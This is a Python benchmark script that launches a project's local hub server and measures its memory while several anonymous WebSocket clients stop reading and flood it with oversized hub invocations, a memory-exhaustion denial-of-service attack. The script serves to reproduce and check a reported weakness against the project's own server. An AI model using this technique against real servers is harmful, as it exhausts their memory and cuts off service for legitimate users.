"""Memory of the local mode under issue 21's item-1 attack: what anonymous WebSockets make it hold.

Each attacker does what any visitor may: `POST /api/negotiate`, the hub's negotiate, the WebSocket
and the hub handshake; then it stops reading (a 4 KiB receive buffer it never empties) and sends
hub invocations whose `invocationId` is `--id-bytes` long, `--per-frame` of them per WebSocket
message, for `--seconds`. An attacker the server disconnects connects again. The script starts the
local mode in a subprocess (`--root` picks the checkout, to measure an older one) and prints the
server's resident memory (VmRSS) before, at its peak during the attack, and after the attackers
have gone. It stops early, as a safety, once the server holds `--rss-cap-mb`.

    python benchmarks/hub_memory.py                                   # 4 attackers, 1 MB ids
    python benchmarks/hub_memory.py --id-bytes 64 --per-frame 200     # many small invocations
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import json
import os
import socket
import struct
import sys
from pathlib import Path

import aiohttp

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))  # run as a script: the repository's packages
from benchmarks.broadcast import launch_local, stop  # noqa: E402

SEPARATOR = "\x1e"


def rss_mb(pid: int) -> float:
    """The process's resident set size, in MiB (Linux /proc)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError(f"no VmRSS for {pid}")


def masked_frame(payload: bytes) -> bytes:
    """A client's text frame (RFC 6455 5.2: masked), any length."""
    key = os.urandom(4)
    length = len(payload)
    if length < 126:
        header = struct.pack("!BB", 0x81, 0x80 | length)
    elif length < 1 << 16:
        header = struct.pack("!BBH", 0x81, 0x80 | 126, length)
    else:
        header = struct.pack("!BBQ", 0x81, 0x80 | 127, length)
    mask = (key * (length // 4 + 1))[:length]
    masked = (int.from_bytes(payload, "big") ^ int.from_bytes(mask, "big")).to_bytes(length, "big")
    return header + key + masked


async def connect(url: str, session: aiohttp.ClientSession) -> socket.socket:
    """Negotiate as the site does, then a raw WebSocket that will never read."""
    async with session.post(f"{url}/api/negotiate") as response:
        info = await response.json()
    bearer = {"Authorization": f"Bearer {info['accessToken']}"}
    async with session.post(f"{url}/client/negotiate?hub=broadcast&negotiateVersion=1", headers=bearer) as r:
        connection_token = (await r.json())["connectionToken"]
    loop = asyncio.get_running_loop()
    host, port = url.removeprefix("http://").split(":")
    client = socket.socket()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    client.setblocking(False)
    await loop.sock_connect(client, (host, int(port)))
    key = base64.b64encode(os.urandom(16)).decode()
    upgrade = (
        f"GET /client/?hub=broadcast&id={connection_token}&access_token={info['accessToken']} HTTP/1.1\r\n"
        f"Host: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )
    await loop.sock_sendall(client, upgrade.encode())
    handshake = json.dumps({"protocol": "json", "version": 1}) + SEPARATOR
    await loop.sock_sendall(client, masked_frame(handshake.encode()))
    answer = await asyncio.wait_for(loop.sock_recv(client, 4096), timeout=10)
    if not answer.startswith(b"HTTP/1.1 101"):
        raise RuntimeError(f"no WebSocket: {answer[:80]!r}")
    return client


async def attacker(url: str, args: argparse.Namespace, deadline: float, counts: dict[str, int]) -> None:
    record = json.dumps({"type": 1, "invocationId": "i" * args.id_bytes, "target": "x", "arguments": []})
    frame = masked_frame(((record + SEPARATOR) * args.per_frame).encode())
    loop = asyncio.get_running_loop()
    async with aiohttp.ClientSession() as session:
        while loop.time() < deadline:
            try:
                client = await connect(url, session)
            except (OSError, RuntimeError, aiohttp.ClientError, TimeoutError):
                counts["refused"] += 1
                await asyncio.sleep(0.2)
                continue
            counts["connections"] += 1
            try:
                while loop.time() < deadline:
                    async with asyncio.timeout(max(0.1, deadline - loop.time())):
                        await loop.sock_sendall(client, frame)
                    counts["invocations"] += args.per_frame
            except (OSError, TimeoutError):
                counts["cut_off"] += 1  # the server closed it (or the time is up)
            finally:
                client.close()


async def attack(url: str, pid: int, args: argparse.Namespace) -> dict[str, float]:
    loop = asyncio.get_running_loop()
    counts = {"connections": 0, "refused": 0, "invocations": 0, "cut_off": 0}
    figures = {"before": rss_mb(pid)}
    deadline = loop.time() + args.seconds
    tasks = [asyncio.create_task(attacker(url, args, deadline, counts)) for _ in range(args.attackers)]
    peak = figures["before"]
    capped = False
    while not all(task.done() for task in tasks):
        peak = max(peak, rss_mb(pid))
        if peak > args.rss_cap_mb:
            capped = True
            for task in tasks:
                task.cancel()
            break
        await asyncio.sleep(0.25)
    await asyncio.gather(*tasks, return_exceptions=True)
    figures["peak"] = max(peak, rss_mb(pid))
    # Whatever the server still holds once every attacker has gone.
    await asyncio.sleep(args.settle)
    figures["after"] = rss_mb(pid)
    print(
        f"attack: {args.attackers} attackers, {args.seconds:g} s, invocationId {args.id_bytes:,} bytes, "
        f"{args.per_frame} per message; {counts['connections']} connections, {counts['refused']} refused, "
        f"{counts['invocations']:,} invocations sent" + (" (stopped at the RSS cap)" if capped else ""),
        flush=True,
    )
    return figures


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--attackers", type=int, default=4, help="sockets at once (default 4)")
    parser.add_argument("--seconds", type=float, default=20.0, help="how long they attack (default 20)")
    parser.add_argument("--id-bytes", type=int, default=1_000_000, help="invocationId length (default 1 MB)")
    parser.add_argument("--per-frame", type=int, default=1, help="invocations per WebSocket message")
    parser.add_argument("--settle", type=float, default=5.0, help="seconds to wait after the attack")
    parser.add_argument("--rss-cap-mb", type=float, default=3000, help="stop the attack past this RSS")
    parser.add_argument("--root", type=Path, default=ROOT, help="the checkout whose local mode to run")
    args = parser.parse_args()
    if args.attackers < 1 or args.seconds <= 0 or args.id_bytes < 1 or args.per_frame < 1:
        parser.error("--attackers, --seconds, --id-bytes and --per-frame must be positive")
    process, port, _ = launch_local([], root=args.root)
    url = f"http://127.0.0.1:{port}"
    try:
        figures = asyncio.run(attack(url, process.pid, args))
        print(
            f"server RSS: {figures['before']:.0f} MiB before, {figures['peak']:.0f} MiB at the peak, "
            f"{figures['after']:.0f} MiB {args.settle:g} s after the attackers left",
            flush=True,
        )
    finally:
        stop(process)


if __name__ == "__main__":
    main()
